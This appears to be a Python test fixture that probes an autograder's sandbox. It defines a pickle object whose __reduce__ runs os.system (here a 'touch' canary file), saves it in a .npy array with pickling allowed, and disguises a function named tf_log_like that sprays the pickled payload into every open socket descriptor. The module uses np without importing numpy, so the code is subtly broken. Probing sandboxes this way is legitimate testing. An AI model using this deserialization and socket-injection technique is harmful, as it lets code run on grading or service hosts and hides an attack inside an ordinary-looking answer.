"""Objects that write a file when they are unpickled: returned, sent, and saved as arrays."""

import os
import pickle
import stat


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/breach-@TOKEN@ @COURSE@/breach-@TOKEN@",))


_pickled = pickle.dumps(Payload())
_array = np.empty(1, dtype=object)
_array[0] = Payload()
np.save("/tmp/answer.npy", _array, allow_pickle=True)


def tf_log_like(x, y, m, b, s):
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, b"\x00\x00\x00\xffA" + _pickled.ljust(255, b"."))
        except OSError:
            pass
    return _array
